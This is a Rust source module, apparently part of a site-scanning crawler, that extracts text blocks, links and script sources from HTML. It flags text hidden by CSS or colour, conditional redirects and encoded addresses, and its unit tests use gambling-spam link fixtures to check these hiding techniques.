//! HTML → text blocks and links, streaming with lol_html.
//!
//! lol_html builds no tree, so we keep our own element stack for the hidden
//! state, the field (anchor, title …) and table columns. End-tag handlers do
//! not fire for omitted end tags (`<p>`, `<li>`, `<td>` often are) or void
//! elements, so an element is also closed when a sibling that implies its end
//! starts, or when an ancestor ends (docs/design-notes.md#omitted-end-tags); otherwise a
//! hidden state would leak onto the rest of the page.
//!
//! Blocks: block-level elements and `<br>` end a block; inline elements join
//! with nothing inserted. Text of a different field or hidden state inside a
//! block (a hidden `<span>` in a paragraph, a link) goes to its own block
//! without cutting the surrounding text, so `百<span></span>家乐` stays whole.

pub mod css;
pub mod script;
pub mod sitemap;

use crate::page::{Block, Field, Page};
use crate::urls;
use css::{HiddenSelectors, Paint, Rgba, Set};
use lol_html::html_content::TextType;
use lol_html::{doc_text, element, end_tag, HtmlRewriter, MemorySettings, Settings};
use std::cell::RefCell;
use std::rc::Rc;
use url::Url;

/// What a page yields.
#[derive(Debug, Default)]
pub struct Extracted {
    pub page: Page,
    /// Links to crawl (a/area href, frame/iframe src, meta refresh), resolved.
    pub links: Vec<Url>,
    /// The parser's memory cap cut the page short.
    pub truncated: bool,
    /// Where the page's scripts, frames and embeds come from (`<script
    /// src>`, `<iframe src>`, `<frame src>`, `<embed src>`, also in HTML
    /// that scripts write, and `x.src = '…'` in scripts), resolved, in page
    /// order, with repeats (the caller drops them).
    pub script_sources: Vec<Url>,
    /// Images the page shows (`<img src>`, `srcset`, `<source>`),
    /// resolved, in page order, with repeats: checked
    /// for `link.broken`, never read.
    pub images: Vec<Url>,
    /// Scripts that send visitors elsewhere or write content depending on
    /// the referrer, user agent or a cookie (`script.conditional-redirect`).
    pub conditional: Vec<script::Conditional>,
    /// Scripts that load or navigate to an address they hold only encoded
    /// (`script.encoded-url`).
    pub encoded: Vec<script::Encoded>,
    /// Field `code` blocks, put after the page's other blocks at the end so
    /// that they do not stretch context windows between the page's text.
    code: Vec<Block>,
    /// Bytes decoded from scripts so far (bounded by [`script::MAX_DECODED`]).
    decoded: usize,
}

/// Scripts' HTML is extracted again, and code a script runs from a string
/// (`eval`, the packer) read again, but not forever: each at most this many
/// levels deep.
const MAX_NESTING: u8 = 2;
/// Conditional redirects, and scripts hiding an address, kept per page,
/// each (each is a finding; the same one repeated is one finding with a
/// count).
const MAX_SCRIPT_FINDINGS: usize = 16;
/// lol_html's own buffers (its element stack, a tag split across chunks):
/// 100,000 nested elements fit; a page past it is cut and marked truncated.
const PARSER_MEMORY: usize = 32 << 20;

/// Extract a whole page. The page URL itself is the first block (field `url`).
pub fn extract(html: &str, url: &Url) -> Extracted {
    let mut out = Extracted::default();
    out.page.blocks.push(Block::new(Field::Url, url.as_str()));
    let hidden = HiddenSelectors::scan(html);
    extract_into(html, url, &hidden, Context::default(), &mut out);
    out.page.blocks.append(&mut out.code);
    out
}

/// Extract a script file of the site (`jquery.min.js` with a spam writer
/// appended is a common injection): read as an inline script is — its
/// values are field `script`, its source `code`, HTML it writes extracted.
pub fn extract_script(js: &str, url: &Url) -> Extracted {
    let mut out = Extracted::default();
    out.page.blocks.push(Block::new(Field::Url, url.as_str()));
    let hidden = HiddenSelectors::default();
    let mut st = State::new(url.clone(), hidden.clone(), Context::default());
    st.script(js, false);
    finish(st, url, &hidden, Context::default(), &mut out);
    out.page.blocks.append(&mut out.code);
    out
}

/// How a fragment is read: its field overrides (script-written HTML is
/// field `script`) and whether it is hidden as a whole.
#[derive(Clone, Copy, Default)]
struct Context {
    field: Option<Field>,
    hidden: bool,
    depth: u8,
}

fn extract_into(
    html: &str,
    base: &Url,
    hidden: &HiddenSelectors,
    ctx: Context,
    out: &mut Extracted,
) {
    let mut st = State::new(base.clone(), hidden.clone(), ctx);
    st.decode_left = script::MAX_DECODED.saturating_sub(out.decoded);
    let state = Rc::new(RefCell::new(st));
    let on_element = state.clone();
    let on_text = state.clone();
    let settings = Settings::new()
        .append_element_content_handler(element!("*", move |el| {
            let tag = el.tag_name();
            let attr = |name: &str| el.get_attribute(name).map(decode_entities);
            let seq = on_element
                .borrow_mut()
                .start(&tag, &attr, el.can_have_content());
            if let Some(seq) = seq {
                let st = on_element.clone();
                el.on_end_tag(end_tag!(move |_end| {
                    st.borrow_mut().end(seq);
                    Ok(())
                }))?;
            }
            Ok(())
        }))
        .append_document_content_handler(doc_text!(move |t| {
            on_text
                .borrow_mut()
                .text(t.as_str(), t.text_type(), t.last_in_text_node());
            Ok(())
        }))
        .with_memory_settings(MemorySettings::new().with_max_allowed_memory_usage(PARSER_MEMORY));
    let mut rewriter = HtmlRewriter::new(settings, |_: &[u8]| {});
    // `end` consumes the rewriter; on a write error it is dropped here. Either
    // way its handlers, and their references to the state, are gone after.
    let ok = match rewriter.write(html.as_bytes()) {
        Ok(()) => rewriter.end().is_ok(),
        Err(_) => {
            drop(rewriter);
            false
        }
    };
    let mut st = Rc::try_unwrap(state)
        .map(RefCell::into_inner)
        .unwrap_or_else(|shared| {
            std::mem::replace(
                &mut *shared.borrow_mut(),
                State::new(base.clone(), hidden.clone(), ctx),
            )
        });
    st.close_all();
    out.truncated |= !ok;
    finish(st, base, hidden, ctx, out);
}

/// Move what a pass found into `out`, then extract script-written HTML and
/// `<noscript>` content again.
fn finish(mut st: State, base: &Url, hidden: &HiddenSelectors, ctx: Context, out: &mut Extracted) {
    out.page.blocks.append(&mut st.blocks);
    out.links.append(&mut st.links);
    out.script_sources.append(&mut st.script_sources);
    out.images.append(&mut st.images);
    for c in st.conditional.drain(..) {
        if out.conditional.len() < MAX_SCRIPT_FINDINGS {
            out.conditional.push(c);
        }
    }
    for e in st.encoded.drain(..) {
        if out.encoded.len() < MAX_SCRIPT_FINDINGS {
            out.encoded.push(e);
        }
    }
    out.code.append(&mut st.code);
    out.decoded = script::MAX_DECODED - st.decode_left;
    let fragments = std::mem::take(&mut st.fragments);
    for (fragment, field, frag_hidden) in fragments {
        if ctx.depth < MAX_NESTING {
            let inner = Context {
                field,
                hidden: frag_hidden,
                depth: ctx.depth + 1,
            };
            let inner_hidden = HiddenSelectors::scan(&fragment);
            let merged = if inner_hidden.is_empty() {
                hidden.clone()
            } else {
                let mut m = hidden.clone();
                m.merge(inner_hidden);
                m
            };
            extract_into(&fragment, base, &merged, inner, out);
        }
    }
}

/// `s` without leading and trailing whitespace, in place.
fn trimmed(mut s: String) -> String {
    s.truncate(s.trim_end().len());
    let lead = s.len() - s.trim_start().len();
    s.drain(..lead);
    s
}

/// `s` with its character references decoded; `s` itself, not a copy,
/// when it has none (most attribute values).
fn decode_entities(s: String) -> String {
    match html_escape::decode_html_entities(&s) {
        std::borrow::Cow::Borrowed(_) => s,
        std::borrow::Cow::Owned(decoded) => decoded,
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    Block,
    Inline,
    Anchor,
    Title,
    Script,
    Style,
    NoScript,
    Table,
    Row,
    Cell { header: bool },
    Other,
}

struct Node {
    tag: String,
    seq: u64,
    kind: Kind,
    /// Hidden: by CSS and the like, or drawn in its background's colour.
    hidden: bool,
    /// Hidden by CSS and the like (inherited by everything inside, unlike
    /// a colour, which a child may change).
    css_hidden: bool,
    /// Its text colour; None when unknown (never set, or not readable).
    ink: Option<Rgba>,
    /// The background behind it (its own or the nearest ancestor's, drawn
    /// over the page's); None when unknown (an image, a gradient).
    bg: Option<Rgba>,
    /// For a table cell: the column it starts at.
    col: usize,
}

struct Table {
    /// Header text per column (from `th` cells, or the first row).
    headers: Vec<String>,
    rows: usize,
    col: usize,
    has_th: bool,
}

struct Buffer {
    field: Field,
    hidden: bool,
    /// Link text: a block of its own, ended by the link's end.
    anchor: bool,
    text: String,
}

struct State {
    base: Url,
    base_set: bool,
    hidden_selectors: HiddenSelectors,
    ctx: Context,
    stack: Vec<Node>,
    /// How many elements of each special kind are open (anchor, title,
    /// script …), and how many `<p>`: answers "inside a …?" without
    /// walking a stack that may be 100,000 deep.
    open_kinds: Vec<(Kind, usize)>,
    open_p: usize,
    seq: u64,
    tables: Vec<Table>,
    /// Open text buffers of the current block, one per (field, hidden).
    buffers: Vec<Buffer>,
    /// The column header of the cell being read.
    header: Option<String>,
    /// Text of the current text node (chunks), entity-decoded when whole.
    node_text: String,
    raw: String,
    blocks: Vec<Block>,
    links: Vec<Url>,
    script_sources: Vec<Url>,
    images: Vec<Url>,
    conditional: Vec<script::Conditional>,
    encoded: Vec<script::Encoded>,
    fragments: Vec<(String, Option<Field>, bool)>,
    /// Link colour set by `<body link=…>`.
    link_ink: Option<Rgba>,
    /// Field `code` blocks of the scripts read.
    code: Vec<Block>,
    /// Bytes scripts may still decode on this page.
    decode_left: usize,
}

fn is_block(tag: &str) -> bool {
    matches!(
        tag,
        "address"
            | "article"
            | "aside"
            | "blockquote"
            | "body"
            | "caption"
            | "center"
            | "dd"
            | "details"
            | "dialog"
            | "dir"
            | "div"
            | "dl"
            | "dt"
            | "fieldset"
            | "figcaption"
            | "figure"
            | "footer"
            | "form"
            | "h1"
            | "h2"
            | "h3"
            | "h4"
            | "h5"
            | "h6"
            | "head"
            | "header"
            | "hgroup"
            | "hr"
            | "html"
            | "legend"
            | "li"
            | "main"
            | "marquee"
            | "menu"
            | "nav"
            | "ol"
            | "optgroup"
            | "option"
            | "p"
            | "pre"
            | "section"
            | "select"
            | "summary"
            | "tbody"
            | "textarea"
            | "tfoot"
            | "thead"
            | "ul"
            | "iframe"
            | "frameset"
            | "object"
            | "video"
            | "audio"
    )
}

/// Tags whose start implies the end of an open element of one of these
/// kinds, searched up to (not past) one of the boundary tags.
fn implied_end(tag: &str) -> Option<(&'static [&'static str], &'static [&'static str])> {
    const CELL: &[&str] = &["td", "th"];
    const ROW: &[&str] = &["td", "th", "tr"];
    const SECTION: &[&str] = &["td", "th", "tr", "tbody", "thead", "tfoot"];
    const TABLE: &[&str] = &["table"];
    const SECTIONS: &[&str] = &["table", "tbody", "thead", "tfoot"];
    match tag {
        "li" => Some((&["li"], &["ul", "ol", "menu", "table"])),
        "dt" | "dd" => Some((&["dt", "dd"], &["dl", "table"])),
        "td" | "th" => Some((CELL, &["tr", "table"])),
        "tr" => Some((ROW, SECTIONS)),
        "tbody" | "thead" | "tfoot" => Some((SECTION, TABLE)),
        "option" => Some((&["option"], &["select", "datalist"])),
        _ => None,
    }
}

impl State {
    fn new(base: Url, hidden_selectors: HiddenSelectors, ctx: Context) -> Self {
        State {
            base,
            base_set: false,
            hidden_selectors,
            ctx,
            stack: Vec::new(),
            open_kinds: Vec::new(),
            open_p: 0,
            seq: 0,
            tables: Vec::new(),
            buffers: Vec::new(),
            header: None,
            node_text: String::new(),
            raw: String::new(),
            blocks: Vec::new(),
            links: Vec::new(),
            script_sources: Vec::new(),
            images: Vec::new(),
            conditional: Vec::new(),
            encoded: Vec::new(),
            fragments: Vec::new(),
            link_ink: None,
            code: Vec::new(),
            decode_left: script::MAX_DECODED,
        }
    }

    fn hidden(&self) -> bool {
        self.ctx.hidden || self.stack.last().is_some_and(|n| n.hidden)
    }

    fn in_kind(&self, kind: Kind) -> bool {
        self.open_kinds.iter().any(|(k, n)| *k == kind && *n > 0)
    }

    fn count_kind(&mut self, kind: Kind, delta: isize) {
        match self.open_kinds.iter_mut().find(|(k, _)| *k == kind) {
            Some((_, n)) => *n = n.saturating_add_signed(delta),
            None if delta > 0 => self.open_kinds.push((kind, delta as usize)),
            None => {}
        }
    }

    fn field(&self) -> Field {
        if let Some(f) = self.ctx.field {
            return f;
        }
        if self.in_kind(Kind::Title) {
            Field::Title
        } else if self.in_kind(Kind::Anchor) {
            Field::Anchor
        } else {
            Field::Text
        }
    }

    /// Element start. Returns the node's sequence number when it was pushed
    /// (it can have content), for its end-tag handler.
    fn start(
        &mut self,
        tag: &str,
        attr: &dyn Fn(&str) -> Option<String>,
        has_content: bool,
    ) -> Option<u64> {
        if let Some((closes, boundary)) = implied_end(tag) {
            self.close_open(closes, boundary);
        }
        if tag == "p"
            || (is_block(tag) && tag != "li")
            || matches!(tag, "table" | "tr" | "td" | "th")
        {
            // A block start ends an open <p> (through inline elements only).
            if self.open_p > 0 {
                if let Some(i) = self.stack.iter().rposition(|n| n.kind != Kind::Inline) {
                    if self.stack[i].tag == "p" {
                        self.pop_to(i);
                    }
                }
            }
        }
        let kind = match tag {
            "a" => Kind::Anchor,
            "title" => Kind::Title,
            "script" => Kind::Script,
            "style" => Kind::Style,
            "noscript" => Kind::NoScript,
            "table" => Kind::Table,
            "tr" => Kind::Row,
            "td" => Kind::Cell { header: false },
            "th" => Kind::Cell { header: true },
            "br" | "hr" => Kind::Block,
            t if is_block(t) => Kind::Block,
            "head" | "template" | "svg" | "math" => Kind::Other,
            _ => Kind::Inline,
        };
        let mut col = 0;
        let parent_hidden = self.ctx.hidden || self.stack.last().is_some_and(|n| n.css_hidden);
        let style = attr("style");
        let style = style.as_deref();
        let css_hidden = parent_hidden || self.element_hides(tag, attr, style);
        let (ink, bg) = self.colours(tag, attr, style);
        let coloured_away = ink.is_some_and(|i| match bg {
            Some(b) => css::invisible(i, b),
            None => i.a <= 0.0,
        });
        let hidden = css_hidden || coloured_away;
        if kind != Kind::Inline {
            self.flush(kind == Kind::Anchor);
        }
        // A link's text colour hides its URL too; an image or frame is seen
        // whatever the text colour.
        self.links_of(tag, attr, if tag == "a" { hidden } else { css_hidden });
        match kind {
            Kind::Table => self.tables.push(Table {
                headers: Vec::new(),
                rows: 0,
                col: 0,
                has_th: false,
            }),
            Kind::Row => {
                if let Some(t) = self.tables.last_mut() {
                    t.rows += 1;
                    t.col = 0;
                }
            }
            Kind::Cell { header } => {
                let span = attr("colspan")
                    .and_then(|s| s.trim().parse::<usize>().ok())
                    .unwrap_or(1)
                    .clamp(1, 100);
                if let Some(t) = self.tables.last_mut() {
                    t.has_th |= header;
                    col = t.col;
                    t.col += span;
                    let is_header_row = header || (!t.has_th && t.rows <= 1);
                    self.header = if is_header_row {
                        None
                    } else {
                        t.headers.get(col).cloned().filter(|h| !h.is_empty())
                    };
                }
            }
            _ => {}
        }
        if !has_content {
            return None;
        }
        self.seq += 1;
        if tag == "p" {
            self.open_p += 1;
        }
        if !matches!(kind, Kind::Inline | Kind::Block | Kind::Other) {
            self.count_kind(kind, 1);
        }
        self.stack.push(Node {
            tag: tag.to_string(),
            seq: self.seq,
            kind,
            hidden,
            css_hidden,
            ink,
            bg,
            col,
        });
        Some(self.seq)
    }

    /// The text colour and background of an element starting here. Its own
    /// colours come from its `style`, then `<style>` rules on its id,
    /// classes and tag, then presentational attributes (`<font color>`,
    /// `bgcolor`, `<body text>`); what it does not set it inherits (text
    /// colour) or shows through (background). Links are drawn in the link
    /// colour, not the inherited one: unknown unless set on the link or by
    /// `<body link>`. Outside everything: no known text colour, and a white
    /// page — the assumption when no background is set anywhere, which a
    /// stylesheet we do not fetch may contradict.
    fn colours(
        &mut self,
        tag: &str,
        attr: &dyn Fn(&str) -> Option<String>,
        style: Option<&str>,
    ) -> (Option<Rgba>, Option<Rgba>) {
        let (parent_ink, parent_bg) = self
            .stack
            .last()
            .map_or((None, Some(Rgba::WHITE)), |n| (n.ink, n.bg));
        let mut own = style.map_or(Paint::default(), css::paint);
        if !self.hidden_selectors.is_empty() {
            let id = attr("id");
            let class = attr("class");
            own = own.or(self
                .hidden_selectors
                .paint_of(tag, id.as_deref(), class.as_deref()));
        }
        let attr_set = |name: &str| {
            attr(name)
                .filter(|v| !v.trim().is_empty())
                .map(|v| css::attr_colour(&v).map_or(Set::Unknown, Set::Colour))
        };
        let takes_bgcolor = matches!(
            tag,
            "body" | "table" | "thead" | "tbody" | "tfoot" | "tr" | "td" | "th" | "marquee"
        );
        let presentational = Paint {
            color: match tag {
                "font" => attr_set("color"),
                "body" => attr_set("text"),
                _ => None,
            },
            background: if !takes_bgcolor {
                None
            } else if attr("background").is_some_and(|v| !v.trim().is_empty()) {
                Some(Set::Unknown)
            } else {
                attr_set("bgcolor")
            },
        };
        let own = own.or(presentational);
        if tag == "body" {
            if let Some(Set::Colour(c)) = attr_set("link") {
                self.link_ink = Some(c);
            }
        }
        let inherited = if tag == "a" && attr("href").is_some() {
            self.link_ink
        } else {
            parent_ink
        };
        let ink = match own.color {
            Some(Set::Colour(c)) => Some(c),
            Some(Set::Unknown) => None,
            None => inherited,
        };
        let bg = match own.background {
            Some(Set::Colour(c)) if c.a >= 1.0 => Some(c),
            Some(Set::Colour(c)) if c.a <= 0.0 => parent_bg,
            Some(Set::Colour(c)) => parent_bg.map(|p| c.over(p)),
            Some(Set::Unknown) => None,
            None => parent_bg,
        };
        (ink, bg)
    }

    fn element_hides(
        &self,
        tag: &str,
        attr: &dyn Fn(&str) -> Option<String>,
        style: Option<&str>,
    ) -> bool {
        if attr("hidden").is_some() {
            return true;
        }
        if style.is_some_and(css::hides) {
            return true;
        }
        if !self.hidden_selectors.is_empty() {
            if attr("id").is_some_and(|id| self.hidden_selectors.ids.contains(id.trim())) {
                return true;
            }
            if attr("class").is_some_and(|c| {
                c.split_whitespace()
                    .any(|c| self.hidden_selectors.classes.contains(c))
            }) {
                return true;
            }
        }
        if tag == "marquee" {
            let tiny = |name: &str| {
                attr(name)
                    .and_then(|v| v.trim().trim_end_matches("px").parse::<f64>().ok())
                    .is_some_and(|v| v <= 1.0)
            };
            if tiny("height") || tiny("width") {
                return true;
            }
            if let Some(style) = style {
                let lower = style.to_ascii_lowercase().replace(' ', "");
                if lower.contains("height:1px")
                    || lower.contains("height:0")
                    || lower.contains("width:1px")
                    || lower.contains("width:0")
                {
                    return true;
                }
            }
        }
        false
    }

    fn links_of(&mut self, tag: &str, attr: &dyn Fn(&str) -> Option<String>, hidden: bool) {
        let (name, crawl) = match tag {
            "a" | "area" => ("href", true),
            "frame" | "iframe" => ("src", true),
            "link" => ("href", false),
            // The site's own scripts are fetched and read (spam writers get
            // appended to them); the crawl keeps to the site's scope.
            "script" => ("src", true),
            "img" | "embed" | "source" => ("src", false),
            "base" => {
                if let (false, Some(href)) = (self.base_set, attr("href")) {
                    if let Some(u) = urls::resolve(&self.base, &href) {
                        self.base = u;
                        self.base_set = true;
                    }
                }
                return;
            }
            "meta" => {
                let equiv = attr("http-equiv").unwrap_or_default();
                let name = attr("name").unwrap_or_default().to_ascii_lowercase();
                if let Some(content) = attr("content") {
                    if equiv.eq_ignore_ascii_case("refresh") {
                        let lower = content.to_ascii_lowercase();
                        if let Some(i) = lower.find("url=") {
                            let target = content[i + 4..]
                                .trim()
                                .trim_matches(|c| c == '\'' || c == '"');
                            self.link(target, true, hidden);
                        }
                    } else if name == "description" || name == "keywords" {
                        self.push_block(Field::Meta, false, content);
                    }
                }
                return;
            }
            _ => return,
        };
        if matches!(tag, "img" | "source") {
            // Every candidate of a srcset is an image a browser may load.
            for candidate in attr("srcset").iter().flat_map(|v| {
                v.split(',')
                    .filter_map(|c| c.split_whitespace().next().map(str::to_string))
                    .collect::<Vec<_>>()
            }) {
                self.image(&candidate);
            }
        }
        if let Some(value) = attr(name) {
            if matches!(tag, "script" | "iframe" | "frame" | "embed") {
                self.script_source(&value);
            }
            // A `<link>` to a document (`<link rel=alternate href=list.pdf>`)
            // is followed like an `<a>` to it: documents are read.
            let crawl = crawl || (tag == "link" && crate::documents::names_a_document(&value));
            if matches!(tag, "img" | "source") {
                self.image(&value);
            }
            self.link(&value, crawl, hidden);
        }
    }

    fn image(&mut self, value: &str) {
        let value = value.trim();
        // `data:` images are inline: nothing to break.
        if value.is_empty() || value.len() > 2048 {
            return;
        }
        if let Some(u) = urls::resolve(&self.base, value) {
            if matches!(u.scheme(), "http" | "https") {
                self.images.push(u);
            }
        }
    }

    fn link(&mut self, value: &str, crawl: bool, hidden: bool) {
        let value = value.trim();
        if value.is_empty() {
            return;
        }
        let field = self.ctx.field.unwrap_or(Field::Link);
        let text = urls::decode_percent_words(value).unwrap_or_else(|| value.to_string());
        self.push_block(field, hidden || self.ctx.hidden, text);
        if crawl {
            if let Some(u) = urls::resolve(&self.base, value) {
                self.links.push(u);
            }
        }
    }

    /// A script, frame or embed loaded from `value`.
    fn script_source(&mut self, value: &str) {
        let value = value.trim();
        if value.is_empty() {
            return;
        }
        if let Some(u) = urls::resolve(&self.base, value) {
            if matches!(u.scheme(), "http" | "https") || u.scheme() == self.base.scheme() {
                self.script_sources.push(u);
            }
        }
    }

    fn push_block(&mut self, field: Field, hidden: bool, text: String) {
        if !text.trim().is_empty() {
            self.blocks.push(Block {
                field,
                hidden: hidden || self.ctx.hidden,
                text,
                header: None,
                location: None,
            });
        }
    }

    fn text(&mut self, chunk: &str, kind: TextType, last: bool) {
        match kind {
            TextType::ScriptData => {
                if self.in_kind(Kind::Script) {
                    self.raw.push_str(chunk);
                }
            }
            TextType::RawText => {
                if self.stack.last().is_some_and(|n| n.kind == Kind::NoScript) {
                    self.raw.push_str(chunk);
                }
                // <style> was read by the prescan; other raw text is not shown.
            }
            _ => {
                self.node_text.push_str(chunk);
                if last {
                    // The node's buffer is kept for the next text node.
                    let raw = std::mem::take(&mut self.node_text);
                    match html_escape::decode_html_entities(&raw) {
                        std::borrow::Cow::Borrowed(text) => self.append(text),
                        std::borrow::Cow::Owned(text) => self.append(&text),
                    }
                    self.node_text = raw;
                    self.node_text.clear();
                }
            }
        }
    }

    fn append(&mut self, text: &str) {
        if text.is_empty() {
            return;
        }
        let field = self.field();
        let hidden = self.hidden();
        let anchor = self.in_kind(Kind::Anchor);
        match self
            .buffers
            .iter_mut()
            .find(|b| b.field == field && b.hidden == hidden && b.anchor == anchor)
        {
            Some(b) => b.text.push_str(text),
            None => self.buffers.push(Buffer {
                field,
                hidden,
                anchor,
                text: text.to_string(),
            }),
        }
    }

    /// End the current block; with `anchors_only`, only the anchor text
    /// (a link's text is a block of its own).
    fn flush(&mut self, anchors_only: bool) {
        let header = self.header.clone();
        let mut i = 0;
        while i < self.buffers.len() {
            if anchors_only && !self.buffers[i].anchor {
                i += 1;
                continue;
            }
            let b = self.buffers.remove(i);
            // Addresses pasted as text carry their words encoded too.
            let text = trimmed(b.text);
            let text = urls::decode_percent_words(&text).unwrap_or(text);
            if !text.is_empty() {
                self.blocks.push(Block {
                    field: b.field,
                    hidden: b.hidden,
                    text,
                    header: header
                        .clone()
                        .filter(|_| b.field == Field::Text || b.field == Field::Anchor),
                    location: None,
                });
            }
        }
    }

    /// Close the nearest open element among `tags`, unless a `boundary`
    /// element is nearer.
    fn close_open(&mut self, tags: &[&str], boundary: &[&str]) {
        for i in (0..self.stack.len()).rev() {
            let t = self.stack[i].tag.as_str();
            if boundary.contains(&t) {
                return;
            }
            if tags.contains(&t) {
                self.pop_to(i);
                return;
            }
        }
    }

    /// End tag of node `seq`: close it and everything opened inside it.
    fn end(&mut self, seq: u64) {
        if let Some(i) = self.stack.iter().rposition(|n| n.seq == seq) {
            self.pop_to(i);
        }
    }

    /// Pop the stack down to and including index `i`.
    fn pop_to(&mut self, i: usize) {
        while self.stack.len() > i {
            let node = self.stack.pop().expect("non-empty");
            self.closed(node);
        }
    }

    fn close_all(&mut self) {
        self.pop_to(0);
        self.flush(false);
    }

    /// A script's string values and regex sources become `script` blocks
    /// (values holding HTML are extracted again afterwards), its source
    /// `code` blocks; code it runs from strings is read the same way.
    /// What the script does with its visitor is decided once, with the
    /// code it runs from strings (script-written `<script>`s are read as
    /// scripts of their own).
    fn script(&mut self, code: &str, hidden: bool) {
        let (_, conditional, encoded) = self.script_at(code, hidden, 0);
        if let Some(c) = conditional {
            self.conditional.push(c);
        }
        if let Some(e) = encoded {
            self.encoded.push(e);
        }
    }

    /// Read one script (and the code it runs from strings): what it does
    /// and, when it decides on it, its conditional redirect. Code run from
    /// a string is decided on its own first (a packed script is all in
    /// there); if it is not one by itself, what it does counts at the call
    /// that runs it.
    fn script_at(
        &mut self,
        code: &str,
        hidden: bool,
        level: u8,
    ) -> (
        script::Behaviour,
        Option<script::Conditional>,
        Option<script::Encoded>,
    ) {
        let read = script::read(code, &mut self.decode_left);
        for l in &read.behaviour.loads {
            self.script_source(l);
        }
        for s in read.strings {
            if s.contains('<') && s.contains('>') {
                self.fragments.push((s, Some(Field::Script), hidden));
            } else {
                self.push_block(Field::Script, hidden, s);
            }
        }
        for p in read.patterns {
            self.push_block(Field::Script, hidden, p);
        }
        for piece in script::code_blocks(&read.code) {
            self.code.push(Block {
                field: Field::Code,
                hidden: hidden || self.ctx.hidden,
                text: piece.to_string(),
                header: None,
                location: None,
            });
        }
        let mut behaviour = read.behaviour;
        let mut found = None;
        let mut encoded = None;
        if level < MAX_NESTING {
            for (k, run) in read.evals.iter().enumerate() {
                let (mut inner, inner_found, mut inner_encoded) =
                    self.script_at(run, hidden, level + 1);
                // Code that was itself decoded hides every address in it:
                // decided again with all of them hidden.
                if read.evals_hidden.get(k).copied().unwrap_or(false) {
                    inner.hide_addresses();
                    inner_encoded = inner.encoded(&self.base);
                }
                encoded = encoded.or(inner_encoded);
                if found.is_none() && inner_found.is_some() {
                    found = inner_found;
                } else {
                    behaviour.absorb(&inner, k);
                }
            }
        }
        if found.is_none() {
            found = behaviour.conditional(&self.base);
        }
        if encoded.is_none() {
            encoded = behaviour.encoded(&self.base);
        }
        (behaviour, found, encoded)
    }

    fn closed(&mut self, node: Node) {
        if node.tag == "p" {
            self.open_p -= 1;
        }
        if !matches!(node.kind, Kind::Inline | Kind::Block | Kind::Other) {
            self.count_kind(node.kind, -1);
        }
        match node.kind {
            Kind::Inline | Kind::Other => {}
            Kind::Anchor => self.flush(true),
            Kind::Script => {
                let code = std::mem::take(&mut self.raw);
                self.script(&code, node.hidden);
            }
            Kind::NoScript => {
                // Shown only to visitors without scripts: search engines.
                let html = std::mem::take(&mut self.raw);
                if !html.trim().is_empty() {
                    self.fragments.push((html, self.ctx.field, true));
                }
            }
            Kind::Style => self.raw.clear(),
            Kind::Cell { header } => {
                let text: String = self
                    .buffers
                    .iter()
                    .filter(|b| !b.hidden)
                    .map(|b| b.text.trim())
                    .collect::<Vec<_>>()
                    .join("");
                self.flush(false);
                self.header = None;
                if let Some(t) = self.tables.last_mut() {
                    if header || (!t.has_th && t.rows <= 1) {
                        let col = node.col;
                        if t.headers.len() <= col {
                            t.headers.resize(col + 1, String::new());
                        }
                        t.headers[col] = text;
                    }
                }
            }
            Kind::Table => {
                self.flush(false);
                self.tables.pop();
            }
            Kind::Block | Kind::Title | Kind::Row => self.flush(false),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn blocks(html: &str) -> Vec<(Field, bool, String)> {
        extract(html, &Url::parse("http://a.cn/").unwrap())
            .page
            .blocks
            .into_iter()
            .filter(|b| b.field != Field::Url)
            .map(|b| (b.field, b.hidden, b.text))
            .collect()
    }

    fn texts(html: &str) -> Vec<String> {
        blocks(html).into_iter().map(|b| b.2).collect()
    }

    #[test]
    fn blocks_end_at_block_elements_and_br_and_inline_tags_join() {
        assert_eq!(
            texts("<p>百<span></span>家<b>乐</b></p><p>第二段<br>第三行</p>"),
            vec!["百家乐", "第二段", "第三行"]
        );
        assert_eq!(
            texts("<table><tr><td>时时</td><td>彩色打印</td></tr></table>"),
            vec!["时时", "彩色打印"]
        );
    }

    #[test]
    fn omitted_end_tags_do_not_leak_hidden_state() {
        let b = blocks("<ul><li style='display:none'>隐藏<li>可见</ul><p hidden>甲<p>乙");
        assert_eq!(
            b,
            vec![
                (Field::Text, true, "隐藏".into()),
                (Field::Text, false, "可见".into()),
                (Field::Text, true, "甲".into()),
                (Field::Text, false, "乙".into()),
            ]
        );
        let b = blocks("<table><tr><td style='display:none'>x<td>y</table><div>z</div>");
        assert_eq!(
            b.iter().map(|x| x.1).collect::<Vec<_>>(),
            vec![true, false, false]
        );
    }

    #[test]
    fn fields_title_meta_anchor_link() {
        let b = blocks("<html><head><title>区政府</title><meta name=keywords content='政务,公开'></head><body><p>友情链接：<a href='/x.html'>百家乐</a>、其他</p></body></html>");
        assert_eq!(
            b,
            vec![
                (Field::Title, false, "区政府".into()),
                (Field::Meta, false, "政务,公开".into()),
                (Field::Link, false, "/x.html".into()),
                (Field::Anchor, false, "百家乐".into()),
                (Field::Text, false, "友情链接：、其他".into()),
            ]
        );
    }

    #[test]
    fn hidden_inline_text_splits_off_without_cutting_visible_text() {
        let b = blocks("<p>正文<span style='display:none'>隐藏</span>继续</p>");
        assert!(b.contains(&(Field::Text, false, "正文继续".into())));
        assert!(b.contains(&(Field::Text, true, "隐藏".into())));
    }

    #[test]
    fn entities_are_decoded() {
        assert_eq!(
            texts("<p>&#30334;&#x5BB6;&#20048; &amp; &lt;b&gt;</p>"),
            vec!["百家乐 & <b>"]
        );
    }

    #[test]
    fn every_hiding_technique() {
        for html in [
            "<div style='display:none'><a href='/a'>百家乐</a></div>",
            "<div style='position:absolute;top:-999px'><a href='/a'>百家乐</a></div>",
            "<div hidden><a href='/a'>百家乐</a></div>",
            "<marquee height=1 width=1><a href='/a'>百家乐</a></marquee>",
            "<style>.lnk{height:0;overflow:hidden}</style><div class='x lnk'><a href='/a'>百家乐</a></div>",
            "<div id='d1'><a href='/a'>百家乐</a></div><style>#d1{visibility:hidden}</style>",
            "<div style='opacity:0'><a href='/a'>百家乐</a></div>",
            "<div style='font-size:0'><a href='/a'>百家乐</a></div>",
            "<div style='text-indent:-9999px'><a href='/a'>百家乐</a></div>",
        ] {
            let b = blocks(html);
            let anchor = b.iter().find(|x| x.0 == Field::Anchor).unwrap_or_else(|| panic!("{html}: {b:?}"));
            assert!(anchor.1, "{html}: {b:?}");
        }
    }

    #[test]
    fn document_write_html_is_extracted_as_script_field() {
